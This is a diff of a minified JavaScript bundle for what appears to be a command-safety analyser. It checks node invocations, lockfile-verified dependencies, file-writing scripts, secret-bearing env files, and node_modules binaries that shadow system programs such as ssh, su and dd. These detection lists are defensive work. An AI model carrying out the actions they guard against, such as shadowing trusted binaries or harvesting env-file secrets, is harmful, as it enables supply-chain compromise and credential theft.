+kind==="directory"}function d0(n,e,t){const s=If(n);if(s===void 0)return!1;const[r,i]=[e,t].map(c=>Ot(c,s));return!(r?.kind===
+"inside"&&Kt(r.entry.kind))||i?.kind!=="inside"?!1:r.entry.oid!==i.entry.oid||r.entry.size!==i.entry.size}function $f(n,e){
+return n.name===e.name&&n.source.kind===e.source.kind&&Nf(n)===Nf(e)}function B0({integrity:n,source:e},{integrity:t}){if(n===
 void 0||e.kind==="file"&&t===void 0)return!1;if(t===void 0)return!0;const s=o=>o.split("-",1)[0],r=t.split(/\s+/),i=n.split(
-/\s+/).filter(o=>r.some(c=>s(c)===s(o)));return i.length>0&&!i.some(o=>r.includes(o))}async function t0(n){const{name:e,
-tree:t,before:s}=n;return(await Af(t,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.name===e||s.some(c=>Of(c,r)))return[];
-const o=Df(r,n);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function Af(n,e){const t=rn(await Ir(n,
+/\s+/).filter(o=>r.some(c=>s(c)===s(o)));return i.length>0&&!i.some(o=>r.includes(o))}async function f0(n){const{name:e,
+tree:t,before:s}=n;return(await Rf(t,e)).flatMap(r=>{if(r.source.kind==="registry"&&r.name===e||s.some(c=>$f(c,r)))return[];
+const o=Tf(r,n);return o===void 0?[]:[{name:e,path:"package.json",...o}]})}async function Rf(n,e){const t=rn(await Ir(n,
 "package.json")),s=["dependencies","devDependencies","optionalDependencies"].map(B=>Kn(rn(t[B]),e)),{overrides:r,resolutions:i,
-pnpm:o}=t,c=[r,i,rn(o).overrides].flatMap(B=>Object.entries(rn(B)).flatMap(([d,h])=>s0(d,e)?[typeof h=="string"?h:Kn(rn(
-h),".")]:[]));return[...new Set([...s,...c])].filter(B=>B!==""&&!B.startsWith("workspace:")).map(B=>n0(B,e))}function n0(n,e){
-const t=tk(n);return t!==void 0&&t!==e?{name:t,version:"",source:{kind:"registry"}}:{name:e,version:"",source:GB(n,e,"")}}
-function s0(n,e){const t=n.split(/[>]|\*\*\//).at(-1)??"";return t===e||t.startsWith(`${e}@`)||t.endsWith(`/${e}`)}function Sf({
-source:{kind:n,at:e=""},version:t}){return n==="tarball"&&t!==""?e.replaceAll(t,"*"):n==="registry"&&no.includes(e)?"":e}
-const Tf="registry.npmjs.org",no=[Tf,"registry.yarnpkg.com"];function r0({at:n},e){return(n===void 0||no.includes(n)?e:void 0)??
-n??Tf}const i0=Rn(async n=>{const e=await If(n),t=Object.entries(e).filter(([i])=>i==="registry"||i.endsWith(":registry")).
-map(([,i])=>$f(String(i))),s=((await xn(n)).npm?.all??[]).flatMap(({source:i})=>i.kind==="registry"&&i.at?[i.at]:[]),r=e.
-registry===void 0||s.some(i=>no.includes(i));return new Set([...t,...s,...r?no:[]])});async function o0(n,e){const t=await If(
-n),[s]=e.startsWith("@")?e.split("/"):[],r=s&&t[`${s}:registry`]||t.registry;return r===void 0?void 0:$f(String(r))}async function If(n){
-const e=await Ys({tree:n,directory:""});return"settings"in e?e.settings:{}}function $f(n){return URL.canParse(n)?new URL(
+pnpm:o}=t,c=[r,i,rn(o).overrides].flatMap(B=>Object.entries(rn(B)).flatMap(([d,h])=>p0(d,e)?[typeof h=="string"?h:Kn(rn(
+h),".")]:[]));return[...new Set([...s,...c])].filter(B=>B!==""&&!B.startsWith("workspace:")).map(B=>h0(B,e))}function h0(n,e){
+const t=fk(n);return t!==void 0&&t!==e?{name:t,version:"",source:{kind:"registry"}}:{name:e,version:"",source:ZB(n,e,"")}}
+function p0(n,e){const t=n.split(/[>]|\*\*\//).at(-1)??"";return t===e||t.startsWith(`${e}@`)||t.endsWith(`/${e}`)}function Nf({
+source:{kind:n,at:e=""},version:t}){return n==="tarball"&&t!==""?e.replaceAll(t,"*"):n==="registry"&&so.includes(e)?"":e}
+const Ff="registry.npmjs.org",so=[Ff,"registry.yarnpkg.com"];function m0({at:n},e){return(n===void 0||so.includes(n)?e:void 0)??
+n??Ff}const g0=Rn(async n=>{const e=await Pf(n),t=Object.entries(e).filter(([i])=>i==="registry"||i.endsWith(":registry")).
+map(([,i])=>Lf(String(i))),s=((await On(n)).npm?.all??[]).flatMap(({source:i})=>i.kind==="registry"&&i.at?[i.at]:[]),r=e.
+registry===void 0||s.some(i=>so.includes(i));return new Set([...t,...s,...r?so:[]])});async function C0(n,e){const t=await Pf(
+n),[s]=e.startsWith("@")?e.split("/"):[],r=s&&t[`${s}:registry`]||t.registry;return r===void 0?void 0:Lf(String(r))}async function Pf(n){
+const e=await Ys({tree:n,directory:""});return"settings"in e?e.settings:{}}function Lf(n){return URL.canParse(n)?new URL(
 n).host:n}function Vs(n){return/^node_modules\/((?:@[^/]+\/)?[^/.@][^/]*)\//.exec(n)?.[1]}async function Fr(n,e,t){const{
-tree:s,base:r=s}=dc(n),{name:i,path:o}=e,c=await a0(s,r,i),l=c===void 0?await l0(s,e):void 0,B=d=>et("dependency-unverif\
-ied",t,{name:i,path:o,...d});return[...c===void 0?[]:[B({fault:c})],...l===void 0?[]:[B({fault:"stale",differs:l})],...await cc(
-n,i,t)]}async function cc(n,e,t){const{tree:s,base:r=s}=dc(n);return[...(await c0(s,r)).map(o=>et("dependency-not-compar\
-ed",t,{name:e,path:o})),...await YD(s,r,e,t)]}function uc(n){return rs(n,"dependency-unverified")?n.args.fault!=="stale":
-rs(n,"target-missing")&&n.args.untracked===!0}async function a0(n,e,t){const[s,r]=await Promise.all([xn(n),xn(e)]),i=({npm:B})=>B?.
-packages.has(t)===!0,o=B=>i(B)||B.unread.length>0;return i(r)&&!i(s)&&n.stat(r.npm?.path??"")||o(r)&&!o(s)?"removed":(await Dn(
-n,""))?.dependencies.has(t)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undeclared"}async function c0(n,e){const[{npm:t,
-unread:s},r]=await Promise.all([xn(n),xn(e)]);if(!t&&s.length===0&&!r.npm&&r.unread.length===0)return[""];const i=await Promise.
-all(s.map(o=>G_(n,e,o)));return s.filter((o,c)=>i[c])}async function u0(n,e,t){const{npm:s,unread:r}=await xn(n),i=s?.packages,
-o=r.length>0||i===void 0||i.has(e);return t.has(e)&&o?e:[...t].find(c=>Object.hasOwn(i?.get(c)?.bin??{},e))}async function l0(n,{
-name:e,binary:t}){const s=`node_modules/${e}`,r=(await xn(n)).npm?.packages.get(e);if(r===void 0||n.stat(s)===void 0)return;
+tree:s,base:r=s}=Bc(n),{name:i,path:o}=e,c=await y0(s,r,i),l=c===void 0?await _0(s,e):void 0,B=d=>et("dependency-unverif\
+ied",t,{name:i,path:o,...d});return[...c===void 0?[]:[B({fault:c})],...l===void 0?[]:[B({fault:"stale",differs:l})],...await uc(
+n,i,t)]}async function uc(n,e,t){const{tree:s,base:r=s}=Bc(n);return[...(await w0(s,r)).map(o=>et("dependency-not-compar\
+ed",t,{name:e,path:o})),...await c0(s,r,e,t)]}function lc(n){return rs(n,"dependency-unverified")?n.args.fault!=="stale":
+rs(n,"target-missing")&&n.args.untracked===!0}async function y0(n,e,t){const[s,r]=await Promise.all([On(n),On(e)]),i=({npm:B})=>B?.
+packages.has(t)===!0,o=B=>i(B)||B.unread.length>0;return i(r)&&!i(s)&&n.stat(r.npm?.path??"")||o(r)&&!o(s)?"removed":(await xn(
+n,""))?.dependencies.has(t)?o(s)||(s.npm??r.npm)===void 0?void 0:"unlocked":"undeclared"}async function w0(n,e){const[{npm:t,
+unread:s},r]=await Promise.all([On(n),On(e)]);if(!t&&s.length===0&&!r.npm&&r.unread.length===0)return[""];const i=await Promise.
+all(s.map(o=>X_(n,e,o)));return s.filter((o,c)=>i[c])}async function b0(n,e,t){const{npm:s,unread:r}=await On(n),i=s?.packages,
+o=r.length>0||i===void 0||i.has(e);return t.has(e)&&o?e:[...t].find(c=>Object.hasOwn(i?.get(c)?.bin??{},e))}async function _0(n,{
+name:e,binary:t}){const s=`node_modules/${e}`,r=(await On(n)).npm?.packages.get(e);if(r===void 0||n.stat(s)===void 0)return;
 const i=await Ir(n,`${s}/package.json`),o=rn(i),c=Kn(o,"name")||e,l=Kn(o,"version"),B=(_,k,E)=>`the installed package ha\
 s the ${_} \`${k||"nothing"}\`, but the lockfile has \`${E}\``;if(i!==void 0&&c!==r.name)return B("name",c,r.name);if(i!==
-void 0&&!["",l].includes(r.version))return B("version",l,r.version);const d=r.bin??(o.bin===void 0?void 0:Ki(o.bin,c)??{});
+void 0&&!["",l].includes(r.version))return B("version",l,r.version);const d=r.bin??(o.bin===void 0?void 0:qi(o.bin,c)??{});
 if(t===void 0||d===void 0)return;const{name:h,file:g}=t,C=Object.entries(d).flatMap(([_,k])=>h===void 0||h===_?[He.posix.
-normalize(k)]:[]),y=h===void 0?"binary":`binary ${h}`;return C.includes(g)?void 0:B(y,g,C[0]??"nothing")}function lc({tree:n,
-base:e=n,directory:t}){const s=r=>i=>Wi.some(o=>i.stat(He.posix.join(r,o))!==void 0);return Nr(t).find(r=>[n,e].some(s(r)))??
-""}function dc(n,e=lc(n)){if(e==="")return n;const{tree:t,base:s,directory:r,changed:i}=n,o=`${e}/`;return{...n,tree:ps(
+normalize(k)]:[]),y=h===void 0?"binary":`binary ${h}`;return C.includes(g)?void 0:B(y,g,C[0]??"nothing")}function dc({tree:n,
+base:e=n,directory:t}){const s=r=>i=>Ki.some(o=>i.stat(He.posix.join(r,o))!==void 0);return Nr(t).find(r=>[n,e].some(s(r)))??
+""}function Bc(n,e=dc(n)){if(e==="")return n;const{tree:t,base:s,directory:r,changed:i}=n,o=`${e}/`;return{...n,tree:ps(
 t,e),...s&&{base:ps(s,e)},directory:r.slice(o.length),changed:new Set([...i].flatMap(c=>c.startsWith(o)?c.slice(o.length):
-[]))}}async function Rf(n,e){const t=lc(n),{targets:s,problems:r}=await e(dc(n,t));return{targets:s.map(i=>i.path===void 0?
-i:{...i,path:He.posix.join(t,i.path)}),problems:r}}const d0=new Set(["","js","mjs","cjs","ts","mts","cts"]);async function Nf(n,e,t){
+[]))}}async function jf(n,e){const t=dc(n),{targets:s,problems:r}=await e(Bc(n,t));return{targets:s.map(i=>i.path===void 0?
+i:{...i,path:He.posix.join(t,i.path)}),problems:r}}const E0=new Set(["","js","mjs","cjs","ts","mts","cts"]);async function Mf(n,e,t){
 const{tree:s}=n,r=Yn(e,t,n.directory);if(r!==void 0)return{targets:[],problems:[r]};if(e.includes("\\"))return ze("targe\
-t-not-a-file",t,{path:e,reason:"backslash"});const i=Bt(Ft(n,e))??"",o=lc(n);if(o!==""&&sn(i,He.posix.join(o,"node_modul\
-es")))return Rf(n,B=>Nf(B,e,t));const c=jf(s,fc(i));return c===void 0?f0(n,e,i,t):c.kind!=="inside"||c.entry.kind!=="dir\
-ectory"?Ff(n,{path:e,wanted:i,found:c},t):await Mf(n,{path:e,wanted:i},t,B=>Ff(n,B,t))??ze("target-not-a-file",t,{path:e,
-reason:"directory"})}async function Bc(n,{path:e,wanted:t,found:s},r){const i=Da(s,e,r);if("problems"in i)return i;const o=await B0(
-n,i,e,r);if(o.some(uc))return{targets:[],problems:o};const c=xa(n,{name:e,path:i.path,wanted:t},r);return{...c,problems:[
-...o,...c.problems]}}async function Ff(n,e,t){const{path:s,wanted:r}=e,i=Da(e.found,s,t);if("problems"in i)return i;const o=/\.([^./]*)$/.
-exec(i.path.replace(/.*\//,""))?.[1]??"";if(!d0.has(o))return ze("target-extension",t,{program:"node",path:s,extension:o});
-const c=await Bc(n,e,t);if(c.targets.length===0)return c;const l=Vs(i.path);return l&&!sn(r,"node_modules")&&!r.includes(
-`node_modules/${l}`)?ze("dependency-unverified",t,{name:l,path:s,fault:"linked"}):i.tracked&&await p0(n.tree,i)?pt([c,ze(
-"target-writes",t,{path:i.path})]):c}async function B0(n,{path:e,tracked:t,built:s},r,i){const o=Vs(e);return o===void 0?
+t-not-a-file",t,{path:e,reason:"backslash"});const i=Bt(Ft(n,e))??"",o=dc(n);if(o!==""&&sn(i,He.posix.join(o,"node_modul\
+es")))return jf(n,B=>Mf(B,e,t));const c=Uf(s,hc(i));return c===void 0?k0(n,e,i,t):c.kind!=="inside"||c.entry.kind!=="dir\
+ectory"?Gf(n,{path:e,wanted:i,found:c},t):await Jf(n,{path:e,wanted:i},t,B=>Gf(n,B,t))??ze("target-not-a-file",t,{path:e,
+reason:"directory"})}async function fc(n,{path:e,wanted:t,found:s},r){const i=xa(s,e,r);if("problems"in i)return i;const o=await v0(
+n,i,e,r);if(o.some(lc))return{targets:[],problems:o};const c=Oa(n,{name:e,path:i.path,wanted:t},r);return{...c,problems:[
+...o,...c.problems]}}async function Gf(n,e,t){const{path:s,wanted:r}=e,i=xa(e.found,s,t);if("problems"in i)return i;const o=/\.([^./]*)$/.
+exec(i.path.replace(/.*\//,""))?.[1]??"";if(!E0.has(o))return ze("target-extension",t,{program:"node",path:s,extension:o});
+const c=await fc(n,e,t);if(c.targets.length===0)return c;const l=Vs(i.path);return l&&!sn(r,"node_modules")&&!r.includes(
+`node_modules/${l}`)?ze("dependency-unverified",t,{name:l,path:s,fault:"linked"}):i.tracked&&await x0(n.tree,i)?pt([c,ze(
+"target-writes",t,{path:i.path})]):c}async function v0(n,{path:e,tracked:t,built:s},r,i){const o=Vs(e);return o===void 0?
 (t||s)&&!sn(e,"node_modules")?[]:[et("target-missing",i,{path:r,untracked:!0})]:t?[et("dependency-unverified",i,{name:o,
-path:r,fault:"committed"})]:await Fr(n,{name:o,path:r},i)}async function f0(n,e,t,s){const r=Vs(t);if(r===void 0&&n.tree.
-isPending?.(t))return ze("target-not-judged",s,{path:e});if(r===void 0||n.tree.stat("node_modules")!==void 0)return ka(n.
-tree,t,e,s);const i=await Fr(n,{name:r,path:e},s);return i.some(uc)?{targets:[],problems:i}:pt([ze("not-installed",s,{name:r}),
-{targets:[],problems:i}])}async function Pf(n,e,t,s){const r=nc(e,t,n.directory);if(r!==void 0)return{targets:[],problems:[
-r]};const o=(sc(e)?(Rr(e)??[]).map(BD):[e]).map(B=>Ot(n.tree,Ft(n,B)));if(o.some(({kind:B})=>B==="outside"))return ze("t\
+path:r,fault:"committed"})]:await Fr(n,{name:o,path:r},i)}async function k0(n,e,t,s){const r=Vs(t);if(r===void 0&&n.tree.
+isPending?.(t))return ze("target-not-judged",s,{path:e});if(r===void 0||n.tree.stat("node_modules")!==void 0)return Da(n.
+tree,t,e,s);const i=await Fr(n,{name:r,path:e},s);return i.some(lc)?{targets:[],problems:i}:pt([ze("not-installed",s,{name:r}),
+{targets:[],problems:i}])}async function Hf(n,e,t,s){const r=sc(e,t,n.directory);if(r!==void 0)return{targets:[],problems:[
+r]};const o=(rc(e)?(Rr(e)??[]).map(vD):[e]).map(B=>Ot(n.tree,Ft(n,B)));if(o.some(({kind:B})=>B==="outside"))return ze("t\
 arget-outside",t,{path:e,reason:"symlink"});const[c]=o,l=c?.kind==="inside"&&c.entry.kind==="directory"&&c.entry.tracked;
-return sc(e)||c===void 0||l?ht:s({path:e,wanted:Bt(Ft(n,e))??e,found:c})}const Lf=256*1024,h0=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
-async function p0(n,e){if((e.size??0)>Lf)return!1;const t=(await n.read(e.path)).toString("latin1");return h0.test(t)}const m0=[
-"",".js",".json",".node"];function fc(n){return n===""?[""]:m0.map(e=>n+e)}function jf(n,e){const t=e.map(s=>Ot(n,s)).filter(
-s=>s.kind!=="missing");return t.find(s=>s.kind!=="inside"||Wt(s.entry.kind))??t[0]}async function Mf({tree:n,changed:e},{
+return rc(e)||c===void 0||l?ht:s({path:e,wanted:Bt(Ft(n,e))??e,found:c})}const zf=256*1024,D0=/\b(?:(?:appendFile|copyFile|rename|rm|rmdir|symlink|truncate|unlink|writeFile)Sync|appendFile|copyFile|createWriteStream|writeFile)\s*\(/;
+async function x0(n,e){if((e.size??0)>zf)return!1;const t=(await n.read(e.path)).toString("latin1");return D0.test(t)}const O0=[
+"",".js",".json",".node"];function hc(n){return n===""?[""]:O0.map(e=>n+e)}function Uf(n,e){const t=e.map(s=>Ot(n,s)).filter(
+s=>s.kind!=="missing");return t.find(s=>s.kind!=="inside"||Kt(s.entry.kind))??t[0]}async function Jf({tree:n,changed:e},{
 path:t,wanted:s},r,i){const o=He.posix.join(s,"package.json"),c=await Ir(n,o);if(c===Fn)return ze("package-json-invalid",
-r,{path:o});const l=Kn(rn(c),"main"),B=l.startsWith("/")?void 0:Bt(He.posix.join(s,l)),d=y=>fc(He.posix.join(y,"index")).
-slice(1),h=l===""||!B?[]:[...fc(B),...d(B)],g=B===void 0?{kind:"outside",path:l}:g0(n,[...h,...d(s)]);if(g===void 0)return;
-const C=await i({path:t,wanted:s,found:g});return e.has(o)?pt([C,ze("target-changed",r,{path:o})]):C}function g0(n,e){return e.
-map(t=>Ot(n,t)).find(t=>t.kind==="inside"?Wt(t.entry.kind):t.kind!=="missing")}async function C0(n,e){const{flags:t,operands:s}=n,
-r=qi(n);if(y0(n,r))return ht;const i=[];for(const l of t)i.push(await Gf(l,e));for(const{text:l,span:B}of s){if(l===""||
-l.startsWith("-"))continue;const d=()=>Nf(e,l,B);i.push(r?await Pf(e,l,B,d):await d())}const{targets:o,problems:c}=pt(i);
-return t.some(({name:l})=>l==="--check")?{targets:o.map(l=>({...l,parsed:!0})),problems:c}:{targets:o,problems:c}}function y0({
-operands:n},e){const t=n[0]?.text;return t==="inspect"||t==="debug"&&!e}const w0=new Set(["--import","--require","--expe\
-rimental-loader"]);async function Gf(n,e){const{name:t,value:s="",span:r}=n;return t==="--env-file"||t==="--env-file-if-\
-exists"?E0(e,s,r):t==="--test-reporter-destination"?b0(e,s,r):!w0.has(t)||!/^[@a-z]/i.test(s)?ht:Hf(e,s,r)}function b0(n,e,t){
+r,{path:o});const l=Kn(rn(c),"main"),B=l.startsWith("/")?void 0:Bt(He.posix.join(s,l)),d=y=>hc(He.posix.join(y,"index")).
+slice(1),h=l===""||!B?[]:[...hc(B),...d(B)],g=B===void 0?{kind:"outside",path:l}:A0(n,[...h,...d(s)]);if(g===void 0)return;
+const C=await i({path:t,wanted:s,found:g});return e.has(o)?pt([C,ze("target-changed",r,{path:o})]):C}function A0(n,e){return e.
+map(t=>Ot(n,t)).find(t=>t.kind==="inside"?Kt(t.entry.kind):t.kind!=="missing")}async function S0(n,e){const{flags:t,operands:s}=n,
+r=Yi(n);if(T0(n,r))return ht;const i=[];for(const l of t)i.push(await Zf(l,e));for(const{text:l,span:B}of s){if(l===""||
+l.startsWith("-"))continue;const d=()=>Mf(e,l,B);i.push(r?await Hf(e,l,B,d):await d())}const{targets:o,problems:c}=pt(i);
+return t.some(({name:l})=>l==="--check")?{targets:o.map(l=>({...l,parsed:!0})),problems:c}:{targets:o,problems:c}}function T0({
+operands:n},e){const t=n[0]?.text;return t==="inspect"||t==="debug"&&!e}const I0=new Set(["--import","--require","--expe\
+rimental-loader"]);async function Zf(n,e){const{name:t,value:s="",span:r}=n;return t==="--env-file"||t==="--env-file-if-\
+exists"?N0(e,s,r):t==="--test-reporter-destination"?$0(e,s,r):!I0.has(t)||!/^[@a-z]/i.test(s)?ht:Wf(e,s,r)}function $0(n,e,t){
 if(/^std(?:out|err)$/.test(e))return ht;const s=Yn(e,t,n.directory);if(s!==void 0)return{targets:[],problems:[s]};const r=Ot(
 n.tree,Bt(Ft(n,e))??"");return r.kind==="outside"?ze("target-outside",t,{path:e,reason:"symlink"}):r.kind==="inside"&&r.
-entry.tracked?ze("writes-files",t,{program:"node",flag:e}):ht}async function Hf(n,e,t){const s=/^(?:@[^/]+\/)?[^/]+/.exec(
-e)?.[0]??e;return{targets:[],problems:await Fr(n,{name:s,path:e},t)}}const _0=/(?<!\w)([A-Za-z_]\w*)\s*=/g;async function E0(n,e,t){
+entry.tracked?ze("writes-files",t,{program:"node",flag:e}):ht}async function Wf(n,e,t){const s=/^(?:@[^/]+\/)?[^/]+/.exec(
+e)?.[0]??e;return{targets:[],problems:await Fr(n,{name:s,path:e},t)}}const R0=/(?<!\w)([A-Za-z_]\w*)\s*=/g;async function N0(n,e,t){
 if(Yn(e,t,n.directory)!==void 0)return ht;const s=Ot(n.tree,Ft(n,e));if(s.kind==="missing"&&n.tree.isPending?.(s.path))return ze(
-"target-not-judged",t,{path:e});const r=Da(s,e,t);if("problems"in r)return r;if(!r.tracked&&!r.built)return ze("target-m\
-issing",t,{path:e,untracked:!0});if((r.size??0)>Lf)return ze("environment-file-unsafe",t,{path:e,names:[]});const o=[...(await n.
-tree.read(r.path)).toString("utf8").matchAll(_0)].map(([,l=""])=>l).filter(l=>nB(l.toUpperCase())&&l.toUpperCase()!=="NO\
-DE_ENV"),c=[...new Set(o)].slice(0,10);return c.length===0?ht:ze("environment-file-unsafe",t,{path:e,names:c})}const zf=Rn(
-async n=>{const e=await af(n,""),t=Array.isArray(e)?e.map(({directory:c})=>c):[],{npm:s,unread:r}=await xn(n),i=(s?.all??
-[]).flatMap(({source:c})=>c.kind==="file"?Bt(c.at)??[]:[]),o=r.length>0?await v0(n):[];return[...new Set([...t,...i,...o])].
-filter(c=>c!=="")});async function v0(n){const e=await Dn(n,""),t=Ti(n,"package.json").map(({path:r})=>He.posix.dirname(
-r)),s=[];for(const r of t){const i=r==="."?void 0:await Dn(n,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}
-const hc=Rn(async n=>{const e=new Map;for(const t of await zf(n)){const s=await Dn(n,t);for(const[r,i]of s?.binaries??[]){
-const o=He.posix.join(t,i);e.set(He.posix.basename(r),{file:o,manifest:He.posix.join(t,"package.json")})}}return e}),Uf=new Set(
-[...$E,...`[ alias awk basename cargo chgrp chown cksum clear cmp comm cut date dd df dirname du expr fg
+"target-not-judged",t,{path:e});const r=xa(s,e,t);if("problems"in r)return r;if(!r.tracked&&!r.built)return ze("target-m\
+issing",t,{path:e,untracked:!0});if((r.size??0)>zf)return ze("environment-file-unsafe",t,{path:e,names:[]});const o=[...(await n.
+tree.read(r.path)).toString("utf8").matchAll(R0)].map(([,l=""])=>l).filter(l=>aB(l.toUpperCase())&&l.toUpperCase()!=="NO\
+DE_ENV"),c=[...new Set(o)].slice(0,10);return c.length===0?ht:ze("environment-file-unsafe",t,{path:e,names:c})}const Kf=Rn(
+async n=>{const e=await Bf(n,""),t=Array.isArray(e)?e.map(({directory:c})=>c):[],{npm:s,unread:r}=await On(n),i=(s?.all??
+[]).flatMap(({source:c})=>c.kind==="file"?Bt(c.at)??[]:[]),o=r.length>0?await F0(n):[];return[...new Set([...t,...i,...o])].
+filter(c=>c!=="")});async function F0(n){const e=await xn(n,""),t=Ti(n,"package.json").map(({path:r})=>He.posix.dirname(
+r)),s=[];for(const r of t){const i=r==="."?void 0:await xn(n,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}
+const pc=Rn(async n=>{const e=new Map;for(const t of await Kf(n)){const s=await xn(n,t);for(const[r,i]of s?.binaries??[]){
+const o=He.posix.join(t,i);e.set(He.posix.basename(r),{file:o,manifest:He.posix.join(t,"package.json")})}}return e}),qf=new Set(
+[...JE,...`[ alias awk basename cargo chgrp chown cksum clear cmp comm cut date dd df dirname du expr fg
   file find fmt fold gawk getopts git gzip hash hostname id install join jobs kill killall ln local
   logname make md5sum mkdir mkfifo mktemp node nl npm npx od open paste patch pkill printf ps pwd
   read readlink realpath rmdir rsync seq set sha256sum shift sleep sort split ssh stat stty su sum
   sync tar tee tr trap tty type umask uname uniq unlink unzip uptime users wait watch which who
-  whoami xargs yes zip`.split(/\s+/)]),k0=new Set(["node","npm","npx","sh"]);async function D0(n,e){const{tree:t,base:s}=n,
-r=await hc(t),i=s&&await hc(s),o=[...r].flatMap(([l,{manifest:B}])=>Uf.has(l)?[Jf(l,B,i?.has(l)===!0,e)]:[]),c=[];for(const l of Nr(
-n.directory)){const B=await x0(t,He.posix.join(l,"node_modules/.bin"));for(const{name:d,path:h,isLocked:g}of B)c.push(Jf(
-d,h,g,e))}return pt([...o,...c])}function Jf(n,e,t,s){return t?k0.has(n)?ze("program-replaced",s,{name:n,path:e},"warnin\
-g"):ht:ze("program-replaced",s,{name:n,path:e})}const x0=vr(async(n,e)=>{const t=[];for(const{path:s}of n.list(e)){const r=He.
-posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!Uf.has(r))continue;const i=Ot(n,s);if(i.kind!=="inside")continue;
-const o=i.path===s?await O0(n,i.entry):i.path,c=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);t.push({name:r,path:s,isLocked:c&&
-!i.entry.tracked})}return t});async function O0(n,{path:e,size:t=0}){if(t>A0)return;const s=(await n.read(e)).toString("\
-utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&He.posix.join(He.posix.dirname(e),r)}const A0=16*1024,
-S0=128*1024,T0=16;function Pn(n,e){return n.length>S0?[]:new F0(n,e).list("",0)}function Ln(n){return n.flatMap(e=>[e,...Ln(
-e.inside)])}const Zf=/^([A-Za-z_]\w*)=(.*)$/s;function Wf(n){const{words:e,assignments:t}=n,s=e.findIndex(({text:c,quoted:l})=>l||
-!jE(c));if(s<1)return n;const r=e.slice(s),i=r.findIndex(({text:c})=>!Zf.test(c)),o=i<0?r:r.slice(0,i);return{...n,words:r.
-slice(o.length),assignments:[...t,...o.map(I0)]}}function I0({text:n,span:e}){const[,t="",s=""]=Zf.exec(n)??[];return{name:t,
-value:s,span:e}}function pc({problems:n,substituted:e},{span:t}){const s=r=>r.start<t.end&&r.end>t.start;return e.some(s)||
-n.some(r=>$0.has(r.rule)&&s(r.span))}const $0=new Set(["arithmetic-expansion","command-substitution","dollar-quote","var\
-iable-expansion"]),R0=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
-N0=/\\.?|\$\(|[^\\`$"]+|./sy;class F0{#e;#t;#s=0;constructor(e,t){this.#e=e,this.#t=t}list(e,t){const s=[];let r=this.#i(),
+  whoami xargs yes zip`.split(/\s+/)]),P0=new Set(["node","npm","npx","sh"]);async function L0(n,e){const{tree:t,base:s}=n,
+r=await pc(t),i=s&&await pc(s),o=[...r].flatMap(([l,{manifest:B}])=>qf.has(l)?[Yf(l,B,i?.has(l)===!0,e)]:[]),c=[];for(const l of Nr(
+n.directory)){const B=await j0(t,He.posix.join(l,"node_modules/.bin"));for(const{name:d,path:h,isLocked:g}of B)c.push(Yf(
+d,h,g,e))}return pt([...o,...c])}function Yf(n,e,t,s){return t?P0.has(n)?ze("program-replaced",s,{name:n,path:e},"warnin\
+g"):ht:ze("program-replaced",s,{name:n,path:e})}const j0=vr(async(n,e)=>{const t=[];for(const{path:s}of n.list(e)){const r=He.
+posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!qf.has(r))continue;const i=Ot(n,s);if(i.kind!=="inside")continue;
+const o=i.path===s?await M0(n,i.entry):i.path,c=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);t.push({name:r,path:s,isLocked:c&&
+!i.entry.tracked})}return t});async function M0(n,{path:e,size:t=0}){if(t>G0)return;const s=(await n.read(e)).toString("\
+utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&He.posix.join(He.posix.dirname(e),r)}const G0=16*1024,
+H0=128*1024,z0=16;function Pn(n,e){return n.length>H0?[]:new K0(n,e).list("",0)}function Ln(n){return n.flatMap(e=>[e,...Ln(
+e.inside)])}const Vf=/^([A-Za-z_]\w*)=(.*)$/s;function Qf(n){const{words:e,assignments:t}=n,s=e.findIndex(({text:c,quoted:l})=>l||
+!VE(c));if(s<1)return n;const r=e.slice(s),i=r.findIndex(({text:c})=>!Vf.test(c)),o=i<0?r:r.slice(0,i);return{...n,words:r.
+slice(o.length),assignments:[...t,...o.map(U0)]}}function U0({text:n,span:e}){const[,t="",s=""]=Vf.exec(n)??[];return{name:t,
+value:s,span:e}}function mc({problems:n,substituted:e},{span:t}){const s=r=>r.start<t.end&&r.end>t.start;return e.some(s)||
+n.some(r=>J0.has(r.rule)&&s(r.span))}const J0=new Set(["arithmetic-expansion","command-substitution","dollar-quote","var\
+iable-expansion"]),Z0=/\\.?|'[^']*'?|[$<>]\(|[<>][<>&|-]{0,2}|&>[<>&|-]?|[;&|\r\n]+|(?<!\S)#[^\n]*|[^\\'"`$()<>&;|\r\n#]+|./sy,
+W0=/\\.?|\$\(|[^\\`$"]+|./sy;class K0{#e;#t;#s=0;constructor(e,t){this.#e=e,this.#t=t}list(e,t){const s=[];let r=this.#i(),
 i=!1;const o=(c,l="")=>{const B=this.#n(r,c,l),{words:d,assignments:h,redirections:g,inside:C}=B,y=d.length+h.length+g.length+
 C.length===0,_=s.at(-1);y?_&&(s[s.length-1]={..._,separator:_.separator+l}):s.push(B);const k=/^\|&?$/.test(l)?B:void 0;
-r=this.#i(y?r.pipedFrom:k)};for(;this.#s<this.#e.length;){const c=this.#s,l=this.#r(i?N0:R0),B=this.#s;if(l==='"')i=!i;else{
-if(l===e&&(!i||e==="`"))return o(c),s;if(l==="$("||l==="`"||!i&&/^[<>]?\($/.test(l)){if(t===T0){o(c);continue}const d=this.#e.
-slice(r.start,c),h=l==="("?ME(d)?"subshell":"definition":"substitution",g=this.list(l==="`"?"`":")",t+1);r.inside.push(...g),
+r=this.#i(y?r.pipedFrom:k)};for(;this.#s<this.#e.length;){const c=this.#s,l=this.#r(i?W0:Z0),B=this.#s;if(l==='"')i=!i;else{
